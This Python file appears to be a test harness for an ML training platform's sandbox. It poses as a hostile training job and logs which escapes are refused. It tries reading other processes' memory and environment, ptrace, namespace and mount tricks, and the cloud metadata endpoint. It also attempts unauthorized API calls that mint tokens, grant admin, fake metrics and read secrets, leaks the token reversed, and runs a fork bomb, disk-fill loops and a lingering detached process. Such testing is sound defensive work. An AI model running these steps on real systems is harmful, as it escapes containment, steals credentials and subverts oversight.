"""Training code of somebody who wants more than a model. It stands before train.py; FACTS is written by the test."""

import ctypes
import errno
import glob
import json
import os
import signal
import socket
import sys
import time
import urllib.error
import urllib.request

FACTS = {}

libc = ctypes.CDLL(None, use_errno=True)


def attempt(name, f):
    try:
        print("GOT", name, repr(f())[:300], flush=True)
    except (OSError, ValueError) as e:
        print("refused", name, errno.errorcode.get(getattr(e, "errno", None) or 0, e), flush=True)


def call(number, *args):
    got = libc.syscall(number, *args)
    if got < 0:
        raise OSError(ctypes.get_errno(), "")
    return got


def write(path):
    with open(path, "w") as f:
        f.write("x")
    return "written"


def connect(family, address):
    s = socket.socket(family)
    s.settimeout(3)
    s.connect(address)
    return s.recv(5)


def ask(method, path, body=None, token=os.environ["MLFLOW_TRACKING_TOKEN"]):
    r = urllib.request.Request(FACTS["url"] + path, method=method, data=json.dumps(body).encode() if body is not None else None)
    r.add_header("Content-Type", "application/json")
    if token:
        r.add_header("Authorization", "Bearer " + token)
    try:
        with urllib.request.urlopen(r, timeout=10) as a:
            return a.read()
    except urllib.error.HTTPError as e:
        if e.code in (401, 403, 404):
            raise PermissionError(errno.EACCES, str(e.code)) from e
        return e.code, e.read()


def read(path):
    with open(path, "rb") as f:
        return f.read(100)


def files():
    for path in FACTS["files"]:
        attempt("read " + path, lambda path=path: read(path))
        attempt("write " + path, lambda path=path: write(path))
        attempt("link " + path, lambda path=path: os.link(path, os.environ["TMPDIR"] + "/stolen"))
    for path in FACTS["folders"]:
        attempt("list " + path, lambda path=path: os.listdir(path))
        attempt("write into " + path, lambda path=path: write(path + "/escape"))
    os.symlink(FACTS["files"][0], os.environ["FALAJ_OUTPUTS"] + "/model")
    attempt("follow a link", lambda: read(os.environ["FALAJ_OUTPUTS"] + "/model"))
    for path in (FACTS["training_set"], "train.py"):
        attempt("change " + path, lambda path=path: open(path, "r+").write("x"))


def processes():
    pid = FACTS["pid"]
    # Where the job has a pid namespace these numbers are nobody's, and 1 and the parent are its supervisor.
    for who in (pid, os.getppid()):
        for name in ("environ", "mem", "maps", "cwd/keys/keyset.json", "root/etc/shadow", "auxv"):
            attempt(f"/proc/{who}/{name}", lambda who=who, name=name: read(f"/proc/{who}/{name}"))
        attempt(f"descriptors of {who}", lambda who=who: [os.readlink(p) for p in glob.glob(f"/proc/{who}/fd/*")] or read(f"/proc/{who}/fd/0"))
        attempt(f"ptrace {who}", lambda who=who: call(101, 16, who, 0, 0))
        attempt(f"seize {who}", lambda who=who: call(101, 0x4206, who, 0, 0))
        attempt(f"memory of {who}", lambda who=who: call(310, who, ctypes.create_string_buffer(16), 1, ctypes.create_string_buffer(16), 1, 0))
        attempt(f"take a descriptor of {who}", lambda who=who: call(438, call(434, who, 0), 1, 0))
    for sig in (0, signal.SIGTERM, signal.SIGKILL):
        attempt(f"signal {sig}", lambda sig=sig: os.kill(pid, sig))
    attempt("signal the group", lambda: os.killpg(pid, signal.SIGTERM))
    attempt("unshare", lambda: call(272, 0x10000000))
    attempt("setns", lambda: call(308, os.open("/proc/1/ns/mnt", os.O_RDONLY), 0))
    attempt("mount", lambda: call(165, b"none", b"/tmp", b"tmpfs", 0, 0))
    attempt("chroot", lambda: os.chroot("/"))
    attempt("cgroup", lambda: write(sorted(glob.glob("/sys/fs/cgroup/**/cgroup.procs", recursive=True))[0]))
    attempt("oom score", lambda: write("/proc/self/oom_score_adj"))
    attempt("kernel memory", lambda: read("/dev/mem"))
    attempt("a device", lambda: os.mknod(os.environ["TMPDIR"] + "/disk", 0o60600, os.makedev(8, 0)))


def network():
    for path in FACTS["sockets"]:
        attempt("socket " + path, lambda path=path: connect(socket.AF_UNIX, path))
    attempt("abstract socket", lambda: connect(socket.AF_UNIX, "\0" + FACTS["abstract"]))
    attempt("another port", lambda: connect(socket.AF_INET, ("127.0.0.1", FACTS["port"])))
    attempt("metadata of a cloud", lambda: connect(socket.AF_INET, ("169.254.169.254", 80)))
    attempt("name service", lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", ("127.0.0.1", 53)))
    base = "/api/falaj/v1"
    for name, method, path, body in (
        ("another project", "GET", base + "/projects/other/models", None),
        ("another project by MLflow", "POST", "/p/other/api/2.0/mlflow/runs/search", {"experiment_ids": ["0"]}),
        ("another project's models", "GET", "/p/other/v2/models/breaks", None),
        ("a token for later", "POST", base + "/tokens", {"principal": "user:amal", "name": "later"}),
        ("a role", "POST", base + "/bindings", {"project": "tiny", "role": "admin", "principal": "user:eve"}),
        ("a person", "POST", base + "/users", {"name": "eve", "password": "correct horse battery"}),
        ("a promotion", "POST", base + "/projects/tiny/changes", {"model": "breaks", "version": 1, "environment": "production"}),
        ("an approval", "POST", base + "/projects/tiny/changes/chg_x/approve", {"comment": ""}),
        ("the secrets", "GET", base + "/projects/tiny/secrets", None),
        ("the record", "GET", base + "/projects/tiny/audit", None),
        ("a backup", "POST", base + "/backups", {}),
        ("sources", "PUT", base + "/projects/tiny/blobs/sha256:" + "0" * 64, None),
        ("another's run", "POST", "/p/tiny/api/2.0/mlflow/runs/log-metric", {"run_id": FACTS["run"], "key": "test_auc", "value": 1, "timestamp": 1}),
        ("another's run's end", "POST", "/p/tiny/api/2.0/mlflow/runs/update", {"run_id": FACTS["run"], "status": "FAILED"}),
        ("a model's end", "DELETE", "/p/tiny/api/2.0/mlflow/registered-models/delete", {"name": "breaks"}),
    ):
        attempt(name, lambda method=method, path=path, body=body: ask(method, path, body))
    attempt("nobody's token", lambda: ask("GET", base + "/projects/tiny/models", token=None))
    print("backwards", os.environ["MLFLOW_TRACKING_TOKEN"][::-1], flush=True)


def bomb():
    while True:
        try:
            os.fork()
        except OSError:
            print("bounded", flush=True)
            time.sleep(1)


def fill(folder):
    n = 0
    while True:
        with open(f"{folder}/{n}", "wb") as f:
            f.write(b"x" * (16 << 20))
        n += 1


def linger():
    """Leaves a process that outlives the job, out of its group and session, and holds its token."""
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            while True:
                time.sleep(1)
        os._exit(0)
    os.wait()


mode = sys.argv[sys.argv.index("--mode") + 1]
if mode in ("files", "processes", "network", "linger"):
    {"files": files, "processes": processes, "network": network, "linger": linger}[mode]()
    print("end of the attempts", flush=True)
    sys.exit(9)
if mode == "bomb":
    bomb()
if mode in ("scratch", "outputs", "shm"):
    fill({"scratch": os.environ["TMPDIR"], "outputs": os.environ["FALAJ_OUTPUTS"], "shm": "/dev/shm"}[mode])
